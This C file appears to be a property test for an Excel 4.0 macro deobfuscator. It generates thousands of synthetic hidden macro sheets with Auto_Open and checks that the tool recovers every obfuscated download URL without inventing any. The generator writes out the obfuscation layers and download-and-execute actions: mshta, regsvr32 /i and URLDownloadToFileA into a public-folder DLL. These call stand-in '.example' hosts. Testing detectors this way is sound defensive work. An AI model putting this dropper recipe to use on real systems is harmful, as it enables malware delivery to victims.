/* test_property.c - thousands of seeded macro sheets that hide known addresses under random layers:
 * all are found to the letter, and no other is ever told.
 *
 * All are inert texts of our own making; HN_SEEDS says how many (10,000), an argument prints one.
 */
#include "xl_dump.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

/* clang-format off */
#include <setjmp.h>
#include <cmocka.h>
/* clang-format on */

#define DEPTH_MAX 4
#define URLS_MAX  3

struct maker {
    uint64_t state;
    struct hn_buf program; /* CELL records of the macro, in the order of its way */
    struct hn_buf data;    /* constants */
    unsigned row;          /* of the program */
    unsigned column;
    unsigned data_row;
    unsigned names;
    char urls[URLS_MAX][80];
    unsigned url_count;
};

static uint32_t next(struct maker *m, uint32_t below)
{
    m->state = m->state * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(m->state >> 33) % below;
}

static void expr(struct maker *m, struct hn_buf *out, struct hn_text text, int depth);

static void doubled(struct hn_buf *out, struct hn_text text)
{
    hn_buf_add_char(out, '"');
    for (size_t i = 0; i < text.len; i++) {
        if (text.ptr[i] == '"')
            hn_buf_add_char(out, '"');
        hn_buf_add_char(out, text.ptr[i]);
    }
    hn_buf_add_char(out, '"');
}

/* The next cell of the program; sometimes far away, with a GOTO to it. */
static void begin_cell(struct maker *m)
{
    if (next(m, 12) == 0 || m->row > 200) {
        unsigned row = 1 + next(m, 40);

        hn_buf_addf(&m->program, "CELL 'Macro1'!%c%u =GOTO(%c%u)\n", (char)('A' + m->column),
                m->row, (char)('B' + m->column), row);
        m->column++;
        m->row = row;
    }
    hn_buf_addf(&m->program, "CELL 'Macro1'!%c%u =", (char)('A' + m->column), m->row);
    m->row += 1 + next(m, 3);
}

static void end_cell(struct maker *m)
{
    hn_buf_add_char(&m->program, '\n');
}

/* A constant of another sheet, as its address. */
static unsigned constant(struct maker *m, const char *value)
{
    hn_buf_addf(&m->data, "CELL 'Data'!B%u %s\n", ++m->data_row, value);
    return m->data_row;
}

static void by_split(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    size_t at = text.len > 1 ? 1 + next(m, (uint32_t)text.len - 1) : text.len;
    bool concatenate = next(m, 3) == 0;

    hn_buf_add_cstr(out, concatenate ? "CONCATENATE(" : "(");
    expr(m, out, hn_text_sub(text, 0, at), depth);
    hn_buf_add_char(out, concatenate ? ',' : '&');
    expr(m, out, hn_text_sub(text, at, SIZE_MAX), depth);
    hn_buf_add_char(out, ')');
}

static void one_char(struct maker *m, struct hn_buf *out, unsigned c)
{
    unsigned key = 1 + next(m, 60);
    char number[16];

    switch (next(m, 6)) {
    case 0:
        hn_buf_addf(out, "CHAR(%u-%u)", c + key, key);
        break;
    case 1:
        hn_buf_addf(out, "CHAR(%u/%u)", c * key, key);
        break;
    case 2:
        hn_buf_addf(out, "CHAR(BITXOR(%u,%u))", c ^ key, key);
        break;
    case 3:
        (void)snprintf(number, sizeof number, "%u", c + key);
        hn_buf_addf(out, "CHAR('Data'!B%u-%u)", constant(m, number), key);
        break;
    case 4:
        hn_buf_addf(out, "CHAR(ROUND(%u.4,0)+MOD(%u,%u))", c - 1, key + 2, key + 1);
        break;
    default:
        hn_buf_addf(out, "CHAR(%u)", c);
        break;
    }
}

static void by_char(struct maker *m, struct hn_buf *out, struct hn_text text)
{
    for (size_t i = 0; i < text.len; i++) {
        if (i > 0)
            hn_buf_add_char(out, '&');
        one_char(m, out, (unsigned char)text.ptr[i]);
    }
}

/* Characters out of a text that holds them all, somewhere. */
static void by_key(struct maker *m, struct hn_buf *out, struct hn_text text)
{
    struct hn_buf key = { 0 };
    struct hn_buf quoted = { 0 };
    unsigned row;

    for (size_t i = 0; i < text.len; i++) {
        for (uint32_t k = next(m, 3); k > 0; k--)
            hn_buf_add_char(&key, (char)('A' + next(m, 26)));
        hn_buf_add_char(&key, text.ptr[i]);
    }
    doubled(&quoted, hn_buf_text(&key));
    hn_buf_add_char(&quoted, '\0');
    row = constant(m, quoted.ptr);
    for (size_t i = 0, at = 0; i < text.len; i++) {
        at = hn_text_find_char(hn_buf_text(&key), text.ptr[i], 0);
        hn_buf_addf(out, "%sMID('Data'!$B$%u,%zu,1)", i > 0 ? "&" : "", row, at + 1);
    }
    hn_buf_deinit(&quoted);
    hn_buf_deinit(&key);
}

/* Junk that is taken out again. */
static void by_substitute(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    struct hn_buf full = { 0 };
    const char *junk = next(m, 2) == 0 ? "~Q~" : "^^";

    if (hn_text_find(text, hn_text_cstr(junk), 0) != SIZE_MAX) {
        doubled(out, text);
        return;
    }
    for (size_t i = 0; i < text.len; i++) {
        if (next(m, 4) == 0)
            hn_buf_add_cstr(&full, junk);
        hn_buf_add_char(&full, text.ptr[i]);
    }
    hn_buf_add_lit(out, "SUBSTITUTE(");
    expr(m, out, hn_buf_text(&full), depth > 1 ? 1 : depth);
    hn_buf_addf(out, ",\"%s\",\"\")", junk);
    hn_buf_deinit(&full);
}

/* A cell of the program that is carried out before. */
static void by_cell(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    struct hn_buf value = { 0 };
    unsigned row;
    char column;

    expr(m, &value, text, depth);
    begin_cell(m);
    column = (char)('A' + m->column);
    hn_buf_add_text(&m->program, hn_buf_text(&value));
    end_cell(m);
    hn_buf_deinit(&value);
    /* Which row it came to is what stands last in the program. */
    row = 0;
    for (struct hn_text rest = hn_buf_text(&m->program), line; hn_text_line(&rest, &line);) {
        size_t at = hn_text_find_char(line, '!', 0);

        if (at != SIZE_MAX)
            row = (unsigned)strtoul(line.ptr + at + 2, NULL, 10);
    }
    hn_buf_addf(out, "%c%u", column, row);
}

static void by_name(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    unsigned name = m->names++;
    struct hn_buf value = { 0 };

    expr(m, &value, hn_text_sub(text, 0, text.len / 2), depth);
    begin_cell(m);
    hn_buf_addf(&m->program, "SET.NAME(\"n_%u\",", name);
    hn_buf_add_text(&m->program, hn_buf_text(&value));
    hn_buf_add_char(&m->program, ')');
    end_cell(m);
    hn_buf_reset(&value);
    expr(m, &value, hn_text_sub(text, text.len / 2, SIZE_MAX), depth);
    begin_cell(m);
    hn_buf_addf(&m->program, "SET.NAME(\"n_%u\",n_%u&", name, name);
    hn_buf_add_text(&m->program, hn_buf_text(&value));
    hn_buf_add_char(&m->program, ')');
    end_cell(m);
    hn_buf_deinit(&value);
    hn_buf_addf(out, "n_%u", name);
}

/* Numbers of a column, decoded in a loop. */
static void by_loop(struct maker *m, struct hn_buf *out, struct hn_text text)
{
    unsigned name = m->names++;
    unsigned key = 1 + next(m, 90);
    unsigned first = m->data_row + 1;

    for (size_t i = 0; i < text.len; i++) {
        char number[16];

        (void)snprintf(number, sizeof number, "%u", (unsigned char)text.ptr[i] + key);
        (void)constant(m, number);
    }
    begin_cell(m);
    hn_buf_addf(&m->program, "SET.NAME(\"n_%u\",\"\")\n", name);
    hn_buf_addf(&m->program, "CELL 'Macro1'!%c%u =FOR.CELL(\"c_%u\",'Data'!B%u:B%u)\n",
            (char)('A' + m->column), m->row, name, first, m->data_row);
    hn_buf_addf(&m->program, "CELL 'Macro1'!%c%u =SET.NAME(\"n_%u\",n_%u&CHAR(c_%u-%u))\n",
            (char)('A' + m->column), m->row + 1, name, name, name, key);
    hn_buf_addf(&m->program, "CELL 'Macro1'!%c%u =NEXT()\n", (char)('A' + m->column), m->row + 2);
    m->row += 3;
    hn_buf_addf(out, "n_%u", name);
}

static void expr(struct maker *m, struct hn_buf *out, struct hn_text text, int depth)
{
    if (depth == 0 || text.len == 0) {
        doubled(out, text);
        return;
    }
    switch (next(m, 9)) {
    case 0:
        by_char(m, out, text);
        return;
    case 1:
        by_key(m, out, text);
        return;
    case 2:
        by_substitute(m, out, text, depth - 1);
        return;
    case 3:
    case 4:
        by_cell(m, out, text, depth - 1);
        return;
    case 5:
        by_name(m, out, text, depth - 1);
        return;
    case 6:
        by_loop(m, out, text);
        return;
    default:
        by_split(m, out, text, depth - 1);
        return;
    }
}

static void hidden(struct maker *m, struct hn_buf *out, const char *text)
{
    expr(m, out, hn_text_cstr(text), (int)next(m, DEPTH_MAX + 1));
}

/* ---- What it does ---- */

static void action(struct maker *m, struct hn_buf *out, const char *url)
{
    char command[160];

    switch (next(m, 4)) {
    case 0:
        (void)snprintf(command, sizeof command, "mshta %s", url);
        hn_buf_add_lit(out, "EXEC(");
        hidden(m, out, command);
        hn_buf_add_char(out, ')');
        return;
    case 1:
        hn_buf_add_lit(out, "CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",");
        hidden(m, out, "regsvr32.exe");
        hn_buf_add_lit(out, ",\"/i:\"&");
        hidden(m, out, url);
        hn_buf_add_lit(out, ",0,5)");
        return;
    default:
        hn_buf_add_lit(out, "CALL(");
        hidden(m, out, "urlmon");
        hn_buf_add_char(out, ',');
        hidden(m, out, "URLDownloadToFileA");
        hn_buf_add_lit(out, ",\"JJCCJJ\",0,");
        hidden(m, out, url);
        hn_buf_add_lit(out, ",\"C:\\Users\\Public\\a.dll\",0,0)");
        return;
    }
}

/* The action stands in the sheet, or FORMULA() writes it there. */
static void act_on(struct maker *m, const char *url)
{
    struct hn_buf value = { 0 };

    if (next(m, 12) < 4) {
        struct hn_buf plain = { 0 };
        struct hn_buf hidden_text = { 0 };
        unsigned target = 300 + m->names++;

        hn_buf_addf(&plain, "=EXEC(\"mshta %s\")", url);
        expr(m, &hidden_text, hn_buf_text(&plain), 2);
        begin_cell(m);
        hn_buf_add_lit(&m->program, "FORMULA(");
        hn_buf_add_text(&m->program, hn_buf_text(&hidden_text));
        hn_buf_addf(&m->program, ",Z%u)", target);
        end_cell(m);
        begin_cell(m);
        hn_buf_addf(&m->program, "FORMULA(\"=RETURN()\",Z%u)", target + 1);
        m->names++;
        end_cell(m);
        begin_cell(m);
        hn_buf_addf(&m->program, "RUN(Z%u)", target);
        end_cell(m);
        hn_buf_deinit(&hidden_text);
        hn_buf_deinit(&plain);
        return;
    }
    action(m, &value, url);
    begin_cell(m);
    hn_buf_add_text(&m->program, hn_buf_text(&value));
    end_cell(m);
    hn_buf_deinit(&value);
}

static void make(struct maker *m, uint64_t seed, struct hn_buf *out)
{
    *m = (struct maker){ .state = seed * 0x9E3779B97F4A7C15u + 7, .row = 1 };
    m->url_count = 1 + next(m, URLS_MAX);
    for (unsigned i = 0; i < m->url_count; i++)
        (void)snprintf(m->urls[i], sizeof m->urls[i], "http%s://h%u.example/%x/f.bin",
                next(m, 2) == 0 ? "s" : "", i, (unsigned)next(m, 1u << 24));
    for (unsigned i = 0; i < m->url_count; i++) {
        if (next(m, 4) == 0) {
            begin_cell(m);
            hn_buf_add_lit(&m->program, "IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)");
            end_cell(m);
        }
        act_on(m, m->urls[i]);
    }
    begin_cell(m);
    hn_buf_add_lit(&m->program, "HALT()\n");
    hn_buf_addf(out, "SHEET 'Macro1' macro very_hidden\nSHEET 'Data' work visible\n"
                     "NAME Auto_Open ='Macro1'!$A$1\n");
    hn_buf_add_text(out, hn_buf_text(&m->program));
    hn_buf_add_text(out, hn_buf_text(&m->data));
    hn_buf_deinit(&m->program);
    hn_buf_deinit(&m->data);
}

/* Every "http" of what is told begins one of the addresses, whole. */
static unsigned count_invented(const struct maker *m, struct hn_text told)
{
    unsigned invented = 0;
    size_t at = 0;

    while ((at = hn_text_find(told, HN_TEXT("://"), at)) != SIZE_MAX) {
        bool known = false;

        for (unsigned i = 0; i < m->url_count; i++) {
            struct hn_text url = hn_text_cstr(m->urls[i]);
            size_t scheme = hn_text_find_char(url, ':', 0);

            known = known ||
                    (at >= scheme && hn_text_starts(hn_text_sub(told, at - scheme, SIZE_MAX), url));
        }
        invented += !known;
        at++;
    }
    return invented;
}

static bool is_told(struct hn_text told, const char *url)
{
    struct hn_text line;

    while (hn_text_line(&told, &line)) {
        if (hn_text_starts(line, HN_TEXT("act ")) &&
                hn_text_find(line, hn_text_cstr(url), 0) != SIZE_MAX)
            return true;
    }
    return false;
}

static bool check(uint64_t seed, unsigned *ret_urls)
{
    struct hn_buf text = { 0 };
    struct maker m;
    struct watch watch;
    bool good = true;

    make(&m, seed, &text);
    xl_dump(&watch, hn_buf_text(&text), NULL);
    for (unsigned i = 0; i < m.url_count; i++)
        good = good && is_told(hn_buf_text(&watch.out), m.urls[i]);
    good = good && count_invented(&m, hn_buf_text(&watch.out)) == 0;
    *ret_urls += m.url_count;
    if (!good)
        print_error("seed %llu\n", (unsigned long long)seed);
    hn_buf_deinit(&watch.out);
    hn_buf_deinit(&text);
    return good;
}

static void hidden_addresses_are_found(void **state)
{
    const char *wanted = getenv("HN_SEEDS");
    uint64_t count = wanted != NULL ? strtoull(wanted, NULL, 10) : 10000;
    unsigned failed = 0;
    unsigned urls = 0;

    (void)state;
    for (uint64_t seed = 1; seed <= count; seed++)
        failed += !check(seed, &urls);
    print_message("%llu seeds, %u addresses, %u failed\n", (unsigned long long)count, urls, failed);
    assert_int_equal(failed, 0);
}

static int print_one(uint64_t seed)
{
    struct hn_buf text = { 0 };
    struct maker m;
    struct watch watch;

    make(&m, seed, &text);
    printf("%.*s", HN_TEXT_ARG(hn_buf_text(&text)));
    xl_dump(&watch, hn_buf_text(&text), NULL);
    printf("----\n%.*s", HN_TEXT_ARG(hn_buf_text(&watch.out)));
    for (unsigned i = 0; i < m.url_count; i++)
        printf("wanted %s\n", m.urls[i]);
    hn_buf_deinit(&watch.out);
    hn_buf_deinit(&text);
    return 0;
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(hidden_addresses_are_found) };

    if (argc > 1)
        return print_one(strtoull(argv[1], NULL, 10));
    return cmocka_run_group_tests(tests, NULL, NULL);
}
